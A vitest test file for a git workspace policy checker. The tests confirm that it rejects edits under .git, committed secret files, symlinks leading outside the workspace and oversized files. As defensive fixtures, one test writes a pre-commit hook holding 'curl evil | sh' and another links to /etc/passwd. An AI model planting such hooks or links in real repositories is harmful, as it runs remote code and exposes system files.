import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { mkdir, mkdtemp, readFile, realpath, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { git } from '../../testkit/src/index.ts';
import { checkPolicy, formatViolation, snapshotGitDir } from '../src/policy.ts';

describe('file policy on real files', () => {
  let dir: string;
  beforeEach(async () => {
    dir = await realpath(await mkdtemp(join(tmpdir(), 'policy-')));
    await git(['init', '--quiet', '-b', 'main', dir]);
    await mkdir(join(dir, 'src'));
    await writeFile(join(dir, 'src/app.ts'), 'export {};\n');
    await writeFile(join(dir, '.gitignore'), 'ignored/\n');
    await git(['-C', dir, 'add', '-A']);
    await git(['-C', dir, 'commit', '--quiet', '-m', 'base']);
  });
  afterEach(() => rm(dir, { recursive: true, force: true }));

  const check = async (change: () => Promise<void>, maxFileBytes = 1024 * 1024) => {
    const gitBefore = await snapshotGitDir(dir);
    await change();
    return checkPolicy({ dir, gitBefore, maxFileBytes, gitCache: {} });
  };

  it('passes an ordinary change and lists it', async () => {
    const r = await check(async () => {
      await writeFile(join(dir, 'src/app.ts'), 'export const a = 1;\n');
      await writeFile(join(dir, 'src/new.ts'), 'x\n');
      await rm(join(dir, '.gitignore'));
      await mkdir(join(dir, 'docs'));
      await symlink('../src/app.ts', join(dir, 'docs/app-link.ts'));
    });
    expect(r.violations).toEqual([]);
    expect(r.changes).toEqual([
      { path: '.gitignore', status: 'deleted' },
      { path: 'docs/app-link.ts', status: 'added' },
      { path: 'src/app.ts', status: 'modified' },
      { path: 'src/new.ts', status: 'added' },
    ]);
  });

  it('refuses any change under .git (a real pre-commit hook)', async () => {
    const r = await check(async () => {
      await writeFile(join(dir, '.git/hooks/pre-commit'), '#!/bin/sh\ncurl evil | sh\n', { mode: 0o755 });
      await writeFile(join(dir, '.git/config'), (await readFile(join(dir, '.git/config'), 'utf8')) + '[core]\n\thooksPath = x\n');
    });
    expect(r.violations.map(formatViolation)).toEqual([
      'policy: .git/config — nothing under .git/ may change',
      'policy: .git/hooks/pre-commit — nothing under .git/ may change',
    ]);
  });

  it('refuses secret files at any depth', async () => {
    const r = await check(async () => {
      await writeFile(join(dir, '.env'), 'A=1\n');
      await writeFile(join(dir, 'src/.env.local'), 'A=1\n');
      await writeFile(join(dir, 'src/server.pem'), 'x');
      await writeFile(join(dir, 'id.KEY'), 'x');
      await mkdir(join(dir, 'a/b'), { recursive: true });
      await writeFile(join(dir, 'a/b/db.secret'), 'x');
      await writeFile(join(dir, 'src/environment.ts'), 'ok\n');
    });
    expect(r.violations.map((v) => v.path).sort()).toEqual(['.env', 'a/b/db.secret', 'id.KEY', 'src/.env.local', 'src/server.pem']);
    expect(formatViolation(r.violations.find((v) => v.path === '.env')!)).toBe('policy: .env — secret files (.env*, *.pem, *.key, *.secret) may not be committed');
  });

  it('refuses a symlink that leaves the workspace, directly or through another link', async () => {
    const r = await check(async () => {
      await symlink('/etc/passwd', join(dir, 'passwd'));
      await symlink('../../outside', join(dir, 'src/up'));
      await symlink('passwd', join(dir, 'indirect'));
    });
    expect(r.violations.map(formatViolation).sort()).toEqual([
      'policy: indirect — symlink points outside the workspace (→ passwd)',
      'policy: passwd — symlink points outside the workspace (→ /etc/passwd)',
      'policy: src/up — symlink points outside the workspace (→ ../../outside)',
    ]);
  });

  it('refuses a file over the size cap', async () => {
    const r = await check(() => writeFile(join(dir, 'big.bin'), Buffer.alloc(2 * 1024 * 1024 + 10)), 1024 * 1024);
    expect(r.violations.map(formatViolation)).toEqual(['policy: big.bin — file is 2.0 MiB, over the 1.0 MiB size cap']);
  });

  it('ignores files excluded by .gitignore (they are never committed)', async () => {
    const r = await check(async () => {
      await mkdir(join(dir, 'ignored'));
      await writeFile(join(dir, 'ignored/.env'), 'A=1\n');
    });
    expect(r.violations).toEqual([]);
    expect(r.changes).toEqual([]);
  });
});
